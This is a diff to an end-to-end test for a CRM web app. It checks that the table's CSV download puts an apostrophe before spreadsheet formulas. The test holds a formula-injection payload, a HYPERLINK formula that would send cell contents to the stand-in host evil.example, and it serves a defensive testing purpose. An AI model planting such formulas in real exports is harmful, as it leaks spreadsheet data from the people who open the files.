@@ -287,7 +287,24 @@ async function run() {
   assert.equal(await a.getByLabel('Stage').inputValue(), 'Solution');
   assert.equal(await a.getByLabel('Name contains').inputValue(), 'canary');
   await a.getByRole('columnheader', {name: 'Name'}).and(a.locator('[aria-sort="descending"]')).waitFor();
-  ok('the table filters by stage and name, sorts, and downloads what it shows as CSV; its address keeps the filters and sort across a reload');
+  // a name a spreadsheet would run as a formula is downloaded with an
+  // apostrophe in front (spec/crm.md "Formulas"); plain numbers are not
+  const formula = '=HYPERLINK("https://evil.example/?"&A1,"formula canary")';
+  const made = await a.evaluate(async (name) => {
+    const me = await (await fetch('/v1/access/me')).json();
+    const r = await fetch('/v1/objects', {method: 'POST',
+      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': me.csrf},
+      body: JSON.stringify({type: 'opportunity', set: {name}})});
+    return r.status;
+  }, formula);
+  assert.equal(made, 201);
+  await a.goto(`${ACME}/table?q=formula`);
+  await a.getByRole('status').filter({hasText: '1 of 2 shown'}).waitFor();
+  const [fdl] = await Promise.all([a.waitForEvent('download'),
+    a.getByRole('button', {name: 'Download CSV'}).click()]);
+  assert.match(readFileSync(await fdl.path(), 'utf8'),
+    /^Name,Stage,Close date\r\n"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""formula canary""\)",Prospecting,\r\n$/);
+  ok('the table filters by stage and name, sorts, and downloads what it shows as CSV (a formula behind an apostrophe); its address keeps the filters and sort across a reload');
 
   // partners: each side sees the other connected, with the same safety code
   await a.getByRole('link', {name: 'Partners'}).click();
